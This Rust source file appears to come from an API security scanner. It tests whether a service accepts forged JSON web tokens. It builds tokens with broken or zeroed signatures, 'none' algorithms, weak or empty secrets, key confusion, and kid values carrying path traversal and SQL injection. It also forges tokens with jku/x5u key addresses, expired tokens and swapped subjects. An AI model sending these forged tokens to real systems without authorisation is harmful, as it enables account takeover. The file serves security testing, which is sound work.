//! Forged tokens: whether a token is believed that nobody has signed, or that anybody could have.
//!
//! The control is a protected read with a valid token, which neither nobody nor garbage gets. A mutant keeps the claims
//! and breaks what vouches for them; it is believed when it gets the same answer as the valid token.

use std::time::Duration;

use async_trait::async_trait;
use serde_json::{Value, json};

use crate::context::Context;
use crate::docket::{Docket, Trail};
use crate::exchange::{Answer, Call, Credential};
use crate::finding::{Label, Site};
use crate::plan::Plan;
use crate::probe::Probe;
use crate::probe::authn::{AUTHORIZATION, Control, is_alike, protected_reads};
use crate::probe::claims::{Key, Known, unchecked};
use crate::public_key::{PublicKey, sealed_with_nothing};
use crate::row::Row;
use crate::rule::{self, Rule};
use crate::scope::SendError;
use crate::session::Session;
use crate::signed_cookie::SignedCookie;
use crate::surface::{self, Endpoint};
use crate::token::{Jwt, UNSIGNED, weak_secrets};

/// The probe.
#[derive(Debug)]
pub(crate) struct Forgery;

#[async_trait]
impl Probe for Forgery {
    fn id(&self) -> &'static str {
        "token-forgery"
    }

    fn row(&self) -> Row {
        Row::Authentication
    }

    fn estimate(&self, _: &Plan) -> u32 {
        55
    }

    async fn run(&self, context: &Context<'_>, docket: &mut Docket) -> Result<(), SendError> {
        let mut controls = protected_reads(context);
        // The answer to a read by id tells best whose token was believed.
        let is_said = |endpoint: &Endpoint| endpoint.is_owned() && endpoint.known == surface::Known::Declared;
        controls.sort_by_key(|control| {
            (!is_said(control.endpoint) || control.endpoint.owner.request.is_empty(), !is_said(control.endpoint))
        });
        for control in controls.iter().take(MAXIMUM_CONTROLS) {
            if let Some(controlled) = controlled(context, docket, control).await? {
                return forge(context, docket, control, controlled).await;
            }
        }
        docket.skip("no protected read tells a valid token from none");
        Ok(())
    }
}

/// The token of a control that tells a valid token from none, and what shows it.
struct Controlled {
    jwt: Jwt,
    trail: Trail,
    valid: Answer,
}

async fn controlled(
    context: &Context<'_>,
    docket: &mut Docket,
    control: &Control<'_>,
) -> Result<Option<Controlled>, SendError> {
    let Some(session) = context.sessions.get(control.session) else { return Ok(None) };
    if let Some(cookie) = SignedCookie::read(&session.token) {
        if let Some((trail, valid)) = told_apart(context, docket, control, session).await? {
            guessed(context, docket, control, Cooked { cookie, trail, valid }).await?;
        }
        return Ok(None);
    }
    let Some(jwt) = Jwt::read(&session.token) else {
        docket.skip("the token is not a JSON web token, so nothing in it can be changed");
        return Ok(None);
    };
    let found = told_apart(context, docket, control, session).await?;
    Ok(found.map(|(trail, valid)| Controlled { jwt, trail, valid }))
}

/// A valid answer to a control that neither nobody nor garbage gets.
async fn told_apart(
    context: &Context<'_>,
    docket: &mut Docket,
    control: &Control<'_>,
    session: &Session,
) -> Result<Option<(Trail, Answer)>, SendError> {
    let mut trail = Trail::default();
    let valid = context.send(&mut trail, Label::Control, &control.valid(context)).await?;
    for (token, shown) in [(None, ""), (Some("garbage"), "garbage")] {
        let credential = token.map_or(Credential::None, |token| session.with_token(token, shown));
        let refused = context.send(&mut trail, Label::Control, &control.call(context, credential)).await?;
        if is_alike(&valid, &refused) || !valid.is_success() {
            docket.skip(format!("`{}` does not tell a valid token from none", control.endpoint.id));
            return Ok(None);
        }
    }
    Ok(Some((trail, valid)))
}

/// A session that is kept in the cookie itself, and what shows that it works.
struct Cooked {
    cookie: SignedCookie,
    trail: Trail,
    valid: Answer,
}

/// Signs the same session anew with a secret that made the signature.
async fn guessed(
    context: &Context<'_>,
    docket: &mut Docket,
    control: &Control<'_>,
    cooked: Cooked,
) -> Result<(), SendError> {
    let Cooked { cookie, mut trail, valid } = cooked;
    let site = Site { operation: &control.endpoint.id, insertion: "cookie" };
    let Some(secret) = weak_secrets().find(|secret| cookie.is_signed_with(secret.as_bytes())) else {
        docket.withstand(&rule::TOKEN_GUESSABLE, site, "no common word has signed the cookie", trail);
        return Ok(());
    };
    let placeholder = context.sessions.get(control.session).map(|session| format!("{}_GUESSED", session.placeholder));
    let token = cookie.signed_earlier(secret.as_bytes());
    let attack = control.call(context, control.signed(context, &token, &placeholder.unwrap_or_default()));
    let answer = context.send(&mut trail, Label::Attack, &attack).await?;
    if is_alike(&valid, &answer) {
        let summary = "a session cookie signed with a secret that is a common word is believed".to_owned();
        docket.prove(&rule::TOKEN_GUESSABLE, site, summary, trail);
    } else {
        let reason = format!("a cookie that was signed anew is answered with {}", answer.meaning().as_u16());
        docket.withstand(&rule::TOKEN_GUESSABLE, site, reason, trail);
    }
    Ok(())
}

/// A token that should be refused.
struct Mutant {
    rule: &'static Rule,
    token: String,
    shown: &'static str,
    how: &'static str,
}

async fn forge(
    context: &Context<'_>,
    docket: &mut Docket,
    control: &Control<'_>,
    controlled: Controlled,
) -> Result<(), SendError> {
    let Controlled { jwt, trail: controls, valid } = controlled;
    let placeholder =
        context.sessions.get(control.session).map(|session| session.placeholder.clone()).unwrap_or_default();
    let secret = weak_secrets().find(|secret| jwt.is_signed_with(secret.as_bytes()));
    let mut proved: Vec<&str> = Vec::new();
    for Mutant { rule, token, shown, how } in mutants(context, &jwt, secret.as_deref()).await? {
        // Where a signature is not looked at, every other way to make one is the same weakness.
        let is_known =
            proved.contains(&rule.slug) || is_the_same_cause(rule) && proved.contains(&rule::TOKEN_FORGED.slug);
        if is_known {
            continue;
        }
        let mut trail = controls.clone();
        let attack = control.call(context, control.signed(context, &token, &format!("{placeholder}_{shown}")));
        let answer = context.send(&mut trail, Label::Attack, &attack).await?;
        let site = Site { operation: &control.endpoint.id, insertion: AUTHORIZATION };
        if is_alike(&valid, &answer) {
            proved.push(rule.slug);
            docket.prove(rule, site, format!("a token {how} is believed"), trail);
        } else {
            let reason = format!("a token {how} is answered with {}", answer.meaning().as_u16());
            docket.withstand(rule, site, reason, trail);
        }
    }
    let named = Named { jwt: &jwt, placeholder: &placeholder, controls: &controls };
    fetched_keys(context, docket, control, named).await?;
    let key = match &secret {
        Some(secret) if proved.contains(&rule::TOKEN_GUESSABLE.slug) => Some(Key::Secret(secret)),
        _ if proved.contains(&rule::TOKEN_UNSIGNED.slug) && !proved.contains(&rule::TOKEN_FORGED.slug) => {
            Some(Key::None)
        }
        _ => None,
    };
    if let Some(key) = key {
        let known = Known { jwt: &jwt, key, placeholder: &placeholder, controls: &controls, valid: &valid };
        unchecked(context, docket, control, known).await?;
    }
    expired(context, docket, control, Old { jwt: &jwt, secret: secret.as_deref(), proved: &proved, controls, valid })
        .await?;
    for_another(context, docket, control.endpoint).await
}

fn is_the_same_cause(rule: &Rule) -> bool {
    [rule::TOKEN_CONFUSED.slug, rule::TOKEN_GUESSABLE.slug, rule::TOKEN_KEYED.slug].contains(&rule.slug)
}

async fn mutants(context: &Context<'_>, jwt: &Jwt, secret: Option<&str>) -> Result<Vec<Mutant>, SendError> {
    let mut mutants = vec![
        Mutant { rule: &rule::TOKEN_FORGED, token: jwt.flipped(), shown: "FLIPPED", how: "with a wrong signature" },
        Mutant {
            rule: &rule::TOKEN_FORGED,
            token: jwt.stripped(),
            shown: "STRIPPED",
            how: "whose signature was cut off",
        },
    ];
    if let Some(token) = jwt.zeroed() {
        // A verifier that takes zero for a point of the curve takes it for every message (CVE-2022-21449).
        mutants.push(Mutant { rule: &rule::TOKEN_FORGED, token, shown: "ZEROED", how: "with a signature of zeros" });
    }
    for spelling in UNSIGNED {
        let (rule, token) = (&rule::TOKEN_UNSIGNED, jwt.unsigned(spelling));
        mutants.push(Mutant { rule, token, shown: "UNSIGNED", how: "that says it is not signed" });
    }
    if let Some(secret) = secret {
        // Another moment of issue: the same claims would be the same token.
        let token = jwt.signed(jwt.algorithm(), secret.as_bytes(), &[], &[("iat", json!(1_700_000_000))]);
        mutants.push(Mutant {
            rule: &rule::TOKEN_GUESSABLE,
            token,
            shown: "GUESSED",
            how: "signed with a secret that is a common word",
        });
    }
    let blank = jwt.signed("HS256", b"", &[], &[]);
    mutants.push(Mutant {
        rule: &rule::TOKEN_GUESSABLE,
        token: blank,
        shown: "BLANK",
        how: "signed with an empty secret",
    });
    if let Some(token) = sealed_with_nothing(jwt.claims()) {
        let how = "encrypted under a key of zeros";
        mutants.push(Mutant { rule: &rule::TOKEN_GUESSABLE, token, shown: "SEALED", how });
    }
    for key in public_keys(context).await?.into_iter().take(MAXIMUM_KEYS) {
        for form in key.writings() {
            let token = jwt.signed("HS256", &form, &[], &[]);
            let how = "signed with the public key as a secret";
            mutants.push(Mutant { rule: &rule::TOKEN_CONFUSED, token, shown: "CONFUSED", how });
        }
        for token in key.sealed(jwt.claims()) {
            let how = "that is encrypted for the service, and signed by nobody,";
            mutants.push(Mutant { rule: &rule::TOKEN_UNSIGNED, token, shown: "SEALED", how });
        }
    }
    let keyed = |header: &[(&str, Value)], secret: &[u8], how: &'static str| {
        let token = jwt.signed("HS256", secret, header, &[]);
        Mutant { rule: &rule::TOKEN_KEYED, token, shown: "KEYED", how }
    };
    let (file, statement) = ("../../../../../../../../dev/null", "x' UNION SELECT 'cGxzZA' -- ");
    mutants.push(keyed(&[("kid", json!(file))], b"", "whose key is named as an empty file"));
    mutants.push(keyed(&[("kid", json!("/dev/null"))], b"", "whose key is named as an empty file"));
    mutants.push(keyed(&[("kid", json!(statement))], b"cGxzZA", "whose key comes out of a statement in `kid`"));
    let own = json!({ "kty": "oct", "alg": "HS256", "kid": "own", "k": "cGxzZA" });
    mutants.push(keyed(&[("jwk", own)], b"plsd", "that brings its own key"));
    Ok(mutants)
}

/// The public keys that the service serves.
async fn public_keys(context: &Context<'_>) -> Result<Vec<PublicKey>, SendError> {
    let declared = context.surface().endpoints.iter().filter(|one| one.is_read()).map(|one| one.template.as_str());
    let declared = declared.filter(|path| path.contains("jwks") || path.ends_with("/keys"));
    let mut paths: Vec<&str> = declared.chain(["/.well-known/jwks.json", "/jwks.json"]).collect();
    paths.dedup();
    for path in paths {
        let answer = context.client.send(&Call::get(path)).await?;
        let keys = answer.json().and_then(|body| body.get("keys")?.as_array().cloned()).unwrap_or_default();
        let keys: Vec<PublicKey> = keys.iter().filter_map(PublicKey::read).collect();
        if !keys.is_empty() {
            return Ok(keys);
        }
    }
    Ok(Vec::new())
}

/// A token to be changed, and what shows that it works.
struct Named<'n> {
    jwt: &'n Jwt,
    placeholder: &'n str,
    controls: &'n Trail,
}

/// A token that names an address of ours for its key.
async fn fetched_keys(
    context: &Context<'_>,
    docket: &mut Docket,
    control: &Control<'_>,
    named: Named<'_>,
) -> Result<(), SendError> {
    let Named { jwt, placeholder, controls } = named;
    for name in ["jku", "x5u"] {
        let token = format!("/{}", context.marker());
        let address = format!("http://{}{token}", context.sink.address());
        let mutant = jwt.signed(jwt.algorithm(), b"", &[(name, json!(address))], &[]);
        let mut trail = controls.clone();
        let attack = control.call(context, control.signed(context, &mutant, &format!("{placeholder}_KEYED")));
        let answer = context.send(&mut trail, Label::Attack, &attack).await?;
        let insertion = format!("{AUTHORIZATION}/{name}");
        let site = Site { operation: &control.endpoint.id, insertion: &insertion };
        if context.sink.sees(&token, PATIENCE).await {
            let summary = format!("the service asks the address in `{name}` of a token for its key");
            docket.prove(&rule::TOKEN_KEYED, site, summary, trail);
        } else {
            let reason = format!("a token that names its key's address is answered with {}", answer.meaning().as_u16());
            docket.withstand(&rule::TOKEN_KEYED, site, reason, trail);
        }
    }
    Ok(())
}

/// What is needed to make a token that would be fine but for its age.
struct Old<'o> {
    jwt: &'o Jwt,
    secret: Option<&'o str>,
    proved: &'o [&'static str],
    controls: Trail,
    valid: Answer,
}

async fn expired(
    context: &Context<'_>,
    docket: &mut Docket,
    control: &Control<'_>,
    old: Old<'_>,
) -> Result<(), SendError> {
    let Old { jwt, secret, proved, controls, valid } = old;
    let past = [("exp", json!(1))];
    let is_proved = |rule: &Rule| proved.contains(&rule.slug);
    let token = match secret.filter(|_| is_proved(&rule::TOKEN_GUESSABLE)) {
        Some(secret) => jwt.signed(jwt.algorithm(), secret.as_bytes(), &[], &past),
        None if is_proved(&rule::TOKEN_UNSIGNED) && !is_proved(&rule::TOKEN_FORGED) => jwt.unsigned_with(&past),
        None => jwt.expired(),
    };
    let site = Site { operation: &control.endpoint.id, insertion: AUTHORIZATION };
    if !jwt.claims().contains_key("exp") {
        // It may end all the same, if the service keeps a list; nothing that can be sent shows that.
        let summary = "the token has no `exp`: does it ever end?".to_owned();
        docket.ask(&rule::TOKEN_EXPIRED, site, summary, controls);
        return Ok(());
    }
    let mut trail = controls;
    let shown = context.sessions.get(control.session).map(|session| format!("{}_EXPIRED", session.placeholder));
    let attack = control.call(context, control.signed(context, &token, &shown.unwrap_or_default()));
    let answer = context.send(&mut trail, Label::Attack, &attack).await?;
    if is_alike(&valid, &answer) {
        docket.prove(&rule::TOKEN_EXPIRED, site, "a token that expired in 1970 is believed".to_owned(), trail);
    } else {
        let reason = format!("an expired token is answered with {}", answer.meaning().as_u16());
        docket.withstand(&rule::TOKEN_EXPIRED, site, reason, trail);
    }
    Ok(())
}

/// Reads what is a victim's with the attacker's token, made out to the victim.
async fn for_another(context: &Context<'_>, docket: &mut Docket, endpoint: &Endpoint) -> Result<(), SendError> {
    let Some((victim, attacker)) = context.peers(endpoint).into_iter().next() else { return Ok(()) };
    let Some(values) = context.values_of(endpoint, victim).into_iter().next() else { return Ok(()) };
    let Some((owner, forger)) = context.sessions.get(victim).zip(context.sessions.get(attacker)) else { return Ok(()) };
    let Some((jwt, subject)) = Jwt::read(&forger.token).zip(owner.claim("sub")) else { return Ok(()) };
    let mut trail = Trail::default();
    let control = context.call(endpoint, &values, None, Some(victim));
    let valid = context.send(&mut trail, Label::Control, &control).await?;
    let token = forger.with_token(&jwt.for_subject(&subject), &format!("{}_FOR_ANOTHER", forger.placeholder));
    let attack = context.call(endpoint, &values, None, None).with_credential(token);
    let answer = context.send(&mut trail, Label::Attack, &attack).await?;
    let site = Site { operation: &endpoint.id, insertion: AUTHORIZATION };
    if is_alike(&valid, &answer) {
        let summary = format!("{} becomes {} by writing another subject into the token", forger.name, owner.name);
        docket.prove(&rule::TOKEN_SUBJECT, site, summary, trail);
    } else {
        let reason = format!("a token with another subject is answered with {}", answer.meaning().as_u16());
        docket.withstand(&rule::TOKEN_SUBJECT, site, reason, trail);
    }
    Ok(())
}

/// A key that is asked for at all is asked for at once.
const PATIENCE: Duration = Duration::from_millis(100);
const MAXIMUM_CONTROLS: usize = 3;
const MAXIMUM_KEYS: usize = 2;
